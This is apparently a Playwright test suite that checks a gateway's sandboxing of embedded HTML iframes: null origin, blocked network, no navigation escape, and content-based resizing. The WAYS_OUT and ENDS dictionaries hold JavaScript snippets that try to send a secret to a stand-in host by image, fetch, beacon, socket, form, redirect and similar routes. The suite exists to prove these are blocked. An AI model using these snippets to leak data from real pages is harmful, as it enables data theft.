"""HTML that a script embeds, in Chromium: it runs, it is kept apart from the page, and it is as high as its content."""

import pytest
from playwright.sync_api import expect

from tests.browser.gallery import APP, POLICY, gallery_browser, visit
from tests.e2e.conftest import gateway_served


@pytest.fixture(scope="module")
def gateway(tmp_path_factory):
    policy = POLICY.format(content_security='profile = "strict"')
    with gateway_served(tmp_path_factory.mktemp("frames"), policy=policy, script=APP) as served:
        yield served


@pytest.fixture(scope="module")
def browser(chromium):
    with gallery_browser(chromium) as context:
        yield context


@pytest.fixture
def embedded(browser, gateway):
    with visit(browser, gateway.url, "embedded") as found:
        yield found


def test_script_in_embedded_html_runs_in_an_origin_of_its_own(embedded):
    """Script in embedded HTML runs under `strict`; its origin is nobody's, so it reaches neither page nor cookies."""
    inside = embedded.page.frame_locator("iframe").nth(0)
    expect(inside.get_by_text("script ran, origin null, kept apart")).to_be_visible(timeout=15_000)
    expect(embedded.page.frame_locator("iframe").nth(2).get_by_text("by script")).to_be_visible()
    assert embedded.violations == set()


def test_embedded_html_has_no_network(embedded):
    """What embedded HTML asks for over the network is blocked by its own policy."""
    expect(embedded.page.frame_locator("iframe").nth(3).get_by_text("no network")).to_be_visible(timeout=15_000)
    embedded.wait(lambda: embedded.in_frames != set())
    assert {directive for directive, _ in embedded.in_frames} == {"connect-src"}
    assert embedded.elsewhere == set()


WAYS_OUT = {
    "a picture": "new Image().src = 'https://frames.example/?secret'",
    "a request": "fetch('https://frames.example/?secret', {mode: 'no-cors'}).catch(() => 0)",
    "a beacon": "navigator.sendBeacon('https://frames.example/?secret')",
    "a socket": "try { new WebSocket('wss://frames.example/?secret') } catch { }",
    "a script": "document.head.append(Object.assign(document.createElement('script'), {src: 'https://frames.example/'}))",
    "a style": "document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=\"https://frames.example/\">')",
    "a prefetch": "document.head.insertAdjacentHTML('beforeend', '<link rel=prefetch href=\"https://frames.example/\">')",
    "a frame": "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://frames.example/\"></iframe>')",
    "a way for the page": "try { top.location = 'https://frames.example/?secret' } catch { }",
}
# These end the document that they are tried in.
ENDS = {
    "a form": "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://frames.example/\">');"
    " document.forms[0].submit()",
    "another address": "location = 'https://frames.example/?secret'",
    "a refresh": "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0; url=https://frames.example/\">')",
}


def test_no_way_out_of_a_frame_is_open(embedded, browser):
    """Pictures, sockets, forms, navigation: whatever script in a frame tries, nobody outside is asked. A window it may
    open, as its links may, when its visitor has clicked.
    """
    outside = []
    browser.on("request", lambda request: outside.append(request) if "frames.example" in request.url else None)
    frames = [embedded.page.locator("iframe").nth(n).element_handle().content_frame() for n in range(4)]
    for code in WAYS_OUT.values():
        frames[0].evaluate(f"() => {{ {code}; return 0 }}")
    embedded.page.wait_for_timeout(500)
    assert "/embedded" in embedded.page.url  # the page is where it was
    for frame, code in zip(frames[1:], ENDS.values(), strict=True):
        frame.evaluate(f"() => {{ setTimeout(() => {{ {code} }}) }}")
    embedded.page.wait_for_timeout(1500)
    left = [request.url for request in outside if request.failure not in ("csp", "net::ERR_BLOCKED_BY_CSP")]
    assert left == []
    assert embedded.elsewhere == set()


def heights(found) -> list[float]:
    return [found.page.locator("iframe").nth(n).bounding_box()["height"] for n in range(4)]


def test_a_frame_is_as_high_as_its_content(embedded):
    """`height = "content"` works as it does in the page: tall HTML is shown whole, short HTML takes little room, and a
    fixed height stays.
    """
    embedded.wait(lambda: heights(embedded)[0] > 700 and heights(embedded)[1] < 100)
    tall, short, fixed, _ = heights(embedded)
    assert 760 < tall < 900  # 700 pixels, a heading and a paragraph
    assert 20 < short < 80  # one paragraph with its margins
    assert fixed == 120
    inner = embedded.page.locator("iframe").nth(0).element_handle().content_frame()
    assert inner.evaluate("document.documentElement.scrollHeight <= innerHeight")  # nothing to scroll


def test_a_frame_follows_its_content(embedded):
    """A frame grows and shrinks with what its own script does."""
    embedded.wait(lambda: heights(embedded)[1] < 100)
    inner = embedded.page.locator("iframe").nth(1).element_handle().content_frame()
    inner.evaluate("document.body.insertAdjacentHTML('beforeend', '<div id=more style=\"height: 333px\"></div>')")
    embedded.wait(lambda: heights(embedded)[1] > 333)
    assert 333 < heights(embedded)[1] < 460
    inner.evaluate("document.getElementById('more').remove()")
    embedded.wait(lambda: heights(embedded)[1] < 100)
    assert heights(embedded)[1] < 100


def test_only_a_frame_that_may_be_measured_is_resized(embedded):
    """A frame of fixed height cannot make itself larger by sending the same message, nor can the page's own script."""
    before = heights(embedded)[2]
    message = "{type: 'gateway:frame-size', width: 900, height: 900}"
    inner = embedded.page.locator("iframe").nth(2).element_handle().content_frame()
    inner.evaluate(f"parent.postMessage({message}, '*')")
    embedded.page.evaluate(f"postMessage({message}, '*')")
    embedded.page.wait_for_timeout(300)
    assert heights(embedded)[2] == before == 120


def test_a_rerun_does_not_load_a_frame_again(embedded):
    """The same HTML, sent again by a rerun, keeps its address: the frame stays as it is, and nothing is asked for."""
    embedded.wait(lambda: heights(embedded)[0] > 700)
    loaded = []
    embedded.page.on("request", lambda request: loaded.append(request.url) if "/frame/" in request.url else None)
    inner = embedded.page.locator("iframe").nth(0).element_handle().content_frame()
    inner.evaluate("window.mark = 1")
    embedded.page.get_by_role("button", name="Again").click()
    expect(embedded.page.get_by_text("ran again")).to_be_visible(timeout=15_000)
    embedded.page.wait_for_timeout(300)
    assert inner.evaluate("window.mark") == 1
    assert loaded == []


def test_a_frame_opened_by_itself_is_still_sandboxed(embedded, browser):
    """Somebody who opens the address of a frame in a tab of its own runs its script in nobody's origin there too."""
    address = embedded.page.locator("iframe").nth(0).evaluate("frame => frame.src")
    page = browser.new_page()
    page.goto(address)
    expect(page.get_by_text("script ran, origin null")).to_be_visible()
    page.close()


def test_the_same_below_a_path_under_max(browser, tmp_path):
    """Below a base path, and under `max`, a frame runs, is kept apart and is as high as its content just the same."""
    policy = POLICY.format(content_security='profile = "max"')
    env = {"GATEWAY_SERVER__BASE_PATH": "/tools"}
    with (
        gateway_served(tmp_path, policy=policy, script=APP, env=env) as served,
        visit(browser, f"{served.url}/tools", "embedded") as found,
    ):
        inside = found.page.frame_locator("iframe").nth(0)
        expect(inside.get_by_text("script ran, origin null, kept apart")).to_be_visible(timeout=15_000)
        found.wait(lambda: heights(found)[0] > 700 and heights(found)[1] < 100)
        assert 760 < heights(found)[0] < 900
        assert "/tools/.gateway/frame/" in found.page.locator("iframe").nth(0).evaluate("frame => frame.src")
    assert found.violations == set()
